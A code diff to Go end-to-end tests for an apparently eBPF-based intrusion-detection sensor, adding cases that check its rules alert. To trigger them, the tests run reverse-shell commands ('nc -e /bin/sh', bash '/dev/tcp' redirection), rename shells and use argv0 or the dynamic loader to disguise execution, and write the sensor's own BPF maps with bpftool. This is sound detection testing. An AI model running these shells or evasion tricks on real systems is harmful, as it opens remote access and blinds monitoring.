@@ -39,9 +39,11 @@ import (
 	"testing"
 	"time"
 
+	"github.com/cilium/ebpf"
 	"golang.org/x/sys/unix"
 
 	"github.com/vigil-sensor/vigil/enrich"
+	"github.com/vigil-sensor/vigil/event"
 	"github.com/vigil-sensor/vigil/internal/agenttest"
 	"github.com/vigil-sensor/vigil/internal/containerdtest"
 	"github.com/vigil-sensor/vigil/internal/testutil"
@@ -307,6 +309,23 @@ func runChild(t *testing.T, env []string, mustSucceed bool, name string, args ..
 	return cmd.Process.Pid
 }
 
+// runArgv0 runs path with argv[0] set to argv0, as `exec -a` does (the
+// comm is still the file's name), to completion, and returns its pid.
+func runArgv0(t *testing.T, path, argv0 string, args ...string) int {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
+	defer cancel()
+	cmd := exec.CommandContext(ctx, path, args...)
+	cmd.Args[0] = argv0
+	if err := cmd.Run(); err != nil {
+		var exit *exec.ExitError
+		if !errors.As(err, &exit) || ctx.Err() != nil {
+			t.Fatalf("running %s as %s %q: %v", path, argv0, args, err)
+		}
+	}
+	return cmd.Process.Pid
+}
+
 // tempDir makes a directory below parent, removed when the test ends.
 func tempDir(t *testing.T, parent string) string {
 	t.Helper()
@@ -348,7 +367,14 @@ type hostEnv struct {
 	shellAddr, svcAddr         string
 	lo                         net.Listener
 	shellConn, svcConn, loConn <-chan struct{}
+	// agent is the pid of the agent under test, whose BPF maps the
+	// tampering test writes.
+	agent int
 }
+
+// loader is the dynamic loader the temporary-directory test runs a binary
+// with, by the path the x86-64 psABI fixes.
+const loader = "/lib64/ld-linux-x86-64.so.2"
 
 // netnsAddr is the address the outbound-connection test connects to,
 // held by the test's own network namespace.
@@ -357,8 +383,11 @@ const netnsAddr = "192.0.2.1"
 func TestDefaultRulesHost(t *testing.T) {
 	testutil.RequireRoot(t)
 	busybox := testutil.RequireCommand(t, "busybox")
-	for _, c := range []string{"ip", "bash", "sh", "truncate", "find", "grep", "touch", "cp", "cat", "chage", "dpkg"} {
+	for _, c := range []string{"ip", "bash", "sh", "truncate", "find", "grep", "touch", "cp", "cat", "chage", "dpkg", "bpftool"} {
 		testutil.RequireCommand(t, c)
+	}
+	if _, err := os.Stat(loader); err != nil {
+		t.Skipf("no dynamic loader at %s: %v", loader, err)
 	}
 	env := &hostEnv{tmp: tempDir(t, "/tmp"), token: randToken()}
 	env.home = filepath.Join(env.tmp, "home")
@@ -374,6 +403,7 @@ func TestDefaultRulesHost(t *testing.T) {
 	env.setupNetwork(t)
 
 	a := startAgent(t, defaultRulesArgs(t)...)
+	env.agent = a.PID()
 	runRuleTests(t, a, hostRuleTests(env))
 }
 
@@ -537,10 +567,21 @@ func hostRuleTests(env *hostEnv) []ruleTest {
 			trigger: func(t *testing.T) []alert {
 				arg := "memfd-" + randToken()
 				runEnv(t, []string{helperEnv + "=" + helperMemfd}, os.Args[0], arg)
-				return []alert{{key: []string{"proc.cmdline"}, want: fields{
-					"proc.cmdline": contains(" " + arg), "proc.exepath": contains("memfd:vigil-e2e-payload"),
-					"evt.arg.flags": contains("EXE_FROM_MEMFD"), "user.uid": 0, "container.id": "host",
-				}}}
+				// Started by a shell named runc (a link to bash): runc's
+				// exemption keys on the runtime's executable, not its name.
+				runc := filepath.Join(env.bin, "runc")
+				if err := os.Symlink("/bin/bash", runc); err != nil && !errors.Is(err, os.ErrExist) {
+					t.Fatal(err)
+				}
+				runcArg := "memfd-runc-" + randToken()
+				runEnv(t, []string{helperEnv + "=" + helperMemfd}, runc, "-c", os.Args[0]+" "+runcArg+"; true")
+				return []alert{
+					{key: []string{"proc.cmdline"}, want: fields{
+						"proc.cmdline": contains(" " + arg), "proc.exepath": contains("memfd:vigil-e2e-payload"),
+						"evt.arg.flags": contains("EXE_FROM_MEMFD"), "user.uid": 0, "container.id": "host",
+					}},
+					{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": contains(" " + runcArg), "proc.pname": "runc"}},
+				}
 			},
 			benign: plain},
 		{rule: "Execution of Deleted Binary", priority: "Critical",
@@ -578,12 +619,18 @@ func hostRuleTests(env *hostEnv) []ruleTest {
 					long = append(long, "-v")
 				}
 				runCommand(t, filepath.Join(env.bin, "nc"), append(long, "-e", "/bin/sh", "127.0.0.1", "1")...)
+				// Whatever the comm: busybox's applet is argv[1] after
+				// "busybox", or argv[0] (exec -a nc).
+				runCommand(t, "busybox", "nc", "-e", "/bin/sh", "127.0.0.1", "2")
+				runArgv0(t, "/usr/bin/busybox", "nc", "-e", "/bin/sh", "127.0.0.1", "3")
 				return []alert{
 					{key: []string{"proc.cmdline"}, want: fields{
 						"proc.cmdline": "nc 127.0.0.1 " + port + " -e /bin/sh", "container.id": "host",
 					}},
 					{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "nc -ve /bin/sh 127.0.0.1 1"}},
 					{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": contains("nc -w 7 -v -v -v")}},
+					{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "busybox nc -e /bin/sh 127.0.0.1 2", "proc.exepath": "/usr/bin/busybox"}},
+					{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "busybox -e /bin/sh 127.0.0.1 3", "proc.exe": "nc"}},
 				}
 			},
 			benign: func(t *testing.T) []alert {
@@ -612,11 +659,113 @@ func hostRuleTests(env *hostEnv) []ruleTest {
 				path := filepath.Join(env.tmp, "payload")
 				copyFile(t, "/bin/true", path, 0o755)
 				runCommand(t, path, arg)
-				return []alert{{key: []string{"proc.exepath", "proc.cmdline"}, want: fields{
-					"proc.exepath": path, "proc.cmdline": "payload " + arg, "user.uid": 0,
+				// What an interpreter or the loader runs for the caller
+				// (proc.target): a #! script run directly, the same
+				// script given to sh and bash, and a binary given to
+				// the dynamic loader.
+				script := filepath.Join(env.tmp, "s-"+env.token+".sh")
+				if err := os.WriteFile(script, []byte("#!/bin/sh\nexit 0\n"), 0o755); err != nil {
+					t.Fatal(err)
+				}
+				runOK(t, nil, script)
+				runOK(t, nil, "sh", script)
+				runOK(t, nil, "bash", script)
+				ldArg := "ld-" + randToken()
+				runOK(t, nil, loader, path, ldArg)
+				return []alert{
+					{key: []string{"proc.exepath", "proc.cmdline"}, want: fields{
+						"proc.exepath": path, "proc.cmdline": "payload " + arg, "user.uid": 0,
+					}},
+					{key: []string{"proc.target", "proc.cmdline"}, want: fields{
+						"proc.target": script, "proc.cmdline": "s-" + env.token + ".sh " + script, "proc.exepath": "/usr/bin/dash",
+					}},
+					{key: []string{"proc.target", "proc.cmdline"}, want: fields{"proc.target": script, "proc.cmdline": "sh " + script}},
+					{key: []string{"proc.target", "proc.cmdline"}, want: fields{
+						"proc.target": script, "proc.cmdline": "bash " + script, "proc.exepath": "/usr/bin/bash",
+					}},
+					{key: []string{"proc.target", "proc.cmdline"}, want: fields{
+						"proc.target": path, "proc.cmdline": contains(path + " " + ldArg),
+						"proc.exepath": contains("/" + filepath.Base(loader)),
+					}},
+				}
+			},
+			benign: func(t *testing.T) []alert {
+				// A command string that names a file in /tmp is not a
+				// file the shell runs.
+				arg := "benign-" + randToken()
+				runOK(t, nil, "sh", "-c", "/usr/bin/true "+env.tmp+"/x", arg)
+				return append(plain(t), alert{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": contains(arg)}})
+			}},
+		{rule: "Execution from Unresolvable Path", priority: "Warning",
+			trigger: func(t *testing.T) []alert {
+				// 70 directories deep: past the 64 components the
+				// kernel's walk follows.
+				dir := env.tmp
+				for range 70 {
+					dir = filepath.Join(dir, "a")
+				}
+				if err := os.MkdirAll(dir, 0o755); err != nil {
+					t.Fatal(err)
+				}
+				path := filepath.Join(dir, "deep")
+				copyFile(t, "/bin/true", path, 0o755)
+				arg := "deep-" + randToken()
+				runCommand(t, path, arg)
+				return []alert{{key: []string{"proc.cmdline"}, want: fields{
+					"proc.cmdline": "deep " + arg, "proc.exepath": contains("/a/a/deep"),
 				}}}
 			},
-			benign: plain},
+			benign: func(t *testing.T) []alert {
+				// Deep, but within the walk: where it is is known.
+				dir := "/var/tmp"
+				for range 20 {
+					dir = filepath.Join(dir, "a")
+				}
+				dir = strings.Replace(dir, "/var/tmp/a", removeAfter(t, "/var/tmp/vigil-e2e-deep-"+env.token), 1)
+				if err := os.MkdirAll(dir, 0o755); err != nil {
+					t.Fatal(err)
+				}
+				path := filepath.Join(dir, "deep")
+				copyFile(t, "/bin/true", path, 0o755)
+				arg := "deep-" + randToken()
+				runCommand(t, path, arg)
+				return []alert{{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "deep " + arg}}}
+			}},
+		{rule: "Tampering with vigil's BPF Objects", priority: "Critical",
+			trigger: func(t *testing.T) []alert {
+				kinds := agentMap(t, env.agent, "kinds")
+				defer kinds.Close()
+				id := mapID(t, kinds)
+				// bpftool writes exec's switch with the value it has:
+				// the agent is not blinded, and it is still a write.
+				var on uint32
+				if err := kinds.Lookup(uint32(event.KindExec), &on); err != nil {
+					t.Fatal(err)
+				}
+				runOK(t, nil, "bpftool", "map", "update", "id", fmt.Sprint(id), "key", "1", "0", "0", "0",
+					"value", fmt.Sprint(on), "0", "0", "0")
+				return []alert{{key: []string{"proc.name", "bpf.target_id"}, want: fields{
+					"proc.name": "bpftool", "bpf.target_id": id, "bpf.target_type": "map",
+					"evt.arg.cmd": "BPF_MAP_UPDATE_ELEM", "proc.exepath": contains("/bpftool"), "evt.res": "SUCCESS",
+				}}}
+			},
+			benign: func(t *testing.T) []alert {
+				// A write to and a read of a map that is not vigil's, and a
+				// read of vigil's.
+				other, err := ebpf.NewMap(&ebpf.MapSpec{Type: ebpf.Array, KeySize: 4, ValueSize: 4, MaxEntries: 1})
+				if err != nil {
+					t.Fatal(err)
+				}
+				defer other.Close()
+				otherID := mapID(t, other)
+				runOK(t, nil, "bpftool", "map", "update", "id", fmt.Sprint(otherID), "key", "0", "0", "0", "0",
+					"value", "1", "0", "0", "0")
+				runOK(t, nil, "bpftool", "map", "dump", "id", fmt.Sprint(otherID))
+				kinds := agentMap(t, env.agent, "kinds")
+				defer kinds.Close()
+				runOK(t, nil, "bpftool", "map", "dump", "id", fmt.Sprint(mapID(t, kinds)))
+				return []alert{{key: []string{"proc.name"}, want: fields{"proc.name": "bpftool"}}}
+			}},
 		{rule: "Execution from Shared Memory", priority: "Error",
 			trigger: func(t *testing.T) []alert {
 				path := removeAfter(t, "/dev/shm/vigil-e2e-"+env.token)
@@ -757,9 +906,20 @@ func hostRuleTests(env *hostEnv) []ruleTest {
 				runOK(t, nil, "ip", "netns", "exec", env.netns, "bash", "-c",
 					"exec bash -i &>/dev/tcp/"+host+"/"+port+" 0>&1")
 				waitConn(t, env.shellConn, "bash reverse shell")
-				return []alert{{key: []string{"proc.name", "fd.name"}, want: fields{
-					"proc.name": "bash", "fd.name": contains("->" + env.shellAddr), "container.id": "host",
-				}}}
+				// A link to bash named backup connecting itself: the
+				// kernel resolves it to bash.
+				backup := filepath.Join(env.bin, "backup")
+				if err := os.Symlink("/bin/bash", backup); err != nil && !errors.Is(err, os.ErrExist) {
+					t.Fatal(err)
+				}
+				runOK(t, nil, "ip", "netns", "exec", env.netns, backup, "-c", "exec 3<>/dev/tcp/"+host+"/"+port)
+				waitConn(t, env.shellConn, "renamed bash reverse shell")
+				return []alert{
+					{key: []string{"proc.name", "fd.name"}, want: fields{
+						"proc.name": "bash", "fd.name": contains("->" + env.shellAddr), "container.id": "host",
+					}},
+					{key: []string{"proc.name", "fd.name"}, want: fields{"proc.name": "backup", "fd.name": contains("->" + env.shellAddr)}},
+				}
 			},
 			benign: func(t *testing.T) []alert {
 				// A shell talking to a local service (a health check), and a
